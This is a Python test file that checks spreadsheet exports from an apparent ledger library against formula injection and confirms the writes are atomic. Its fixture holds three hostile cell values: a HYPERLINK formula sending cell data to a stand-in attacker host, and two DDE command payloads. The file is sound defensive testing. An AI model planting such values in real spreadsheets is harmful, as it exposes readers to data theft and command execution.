"""Result tables cannot attack their reader (issue 16, finding 4), on both backends: formula-like
text is a string cell in XLSX (checked in the sheet XML itself: no <f> element) and carries an
apostrophe in tables-csv; the workbook is written atomically."""

from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from loopledger import Ledger
from loopledger.interchange import export_format

SRC = {"url": "https://example.org/hostile", "publisher": "Example", "date": "2026-01-01", "type": "news"}
NOTES = {
    "openai-oracle-300b": '=HYPERLINK("http://evil.example/?d="&A1,"Click for the source")',
    "msft-crwv-10b": "+1+cmd|' /C calc'!A0",
    "stargate-program-500b": "@SUM(1+1)*cmd|' /C calc'!A0",
}
AS_OF = "2026-06-30"


@pytest.fixture
def hostile(db_url):
    led = Ledger.open(db_url)
    led.init()
    for deal_id, note in NOTES.items():
        led.amend("deals", deal_id, {"notes": note}, source=SRC, reason="hostile note")
    yield led
    led.store.engine.dispose()


def test_xlsx_cells_are_text_never_formulas(hostile, tmp_path):
    (path,) = export_format(hostile, tmp_path / "t.xlsx", "xlsx", as_of=AS_OF)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
    wb = load_workbook(path)
    ws = wb["deals"]
    header = [c.value for c in ws[1]]
    notes = {row[header.index("id")].value: row[header.index("notes")] for row in ws.iter_rows(min_row=2)}
    for deal_id, note in NOTES.items():
        assert notes[deal_id].value == note and notes[deal_id].data_type == "s"
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)


def test_tables_csv_neutralises_text_cells_only(hostile, tmp_path):
    files = {p.stem: p for p in export_format(hostile, tmp_path / "t", "tables-csv", as_of=AS_OF)}
    with open(files["deals"], newline="", encoding="utf-8") as f:
        rows = {r["id"]: r for r in csv.DictReader(f)}
    for deal_id, note in NOTES.items():
        assert rows[deal_id]["notes"] == "'" + note
    for name, path in files.items():
        with open(path, newline="", encoding="utf-8") as f:
            for r in csv.DictReader(f):
                for k, v in r.items():
                    if v[:1] in ("=", "+", "@", "\t", "\r"):
                        pytest.fail(f"{name}.{k} starts a formula: {v!r}")
                    if v[:1] == "-":  # only numbers may start with a minus
                        float(v)


# the fake save leaves openpyxl's write-only row generators unfinished; they complain when collected
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_failed_xlsx_export_leaves_the_old_workbook(hostile, tmp_path, monkeypatch):
    import openpyxl

    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "t.xlsx"
    export_format(hostile, target, "xlsx", as_of=AS_OF)
    good = target.read_bytes()

    def half_then_fail(self, filename):
        with open(filename, "wb") as f:
            f.write(b"PK\x03\x04 half a workbook")
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", half_then_fail)
    with pytest.raises(OSError, match="disk full"):
        export_format(hostile, target, "xlsx", as_of=AS_OF)
    assert target.read_bytes() == good
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["t.xlsx"]  # no temporary file left behind
    load_workbook(target)  # still a readable workbook
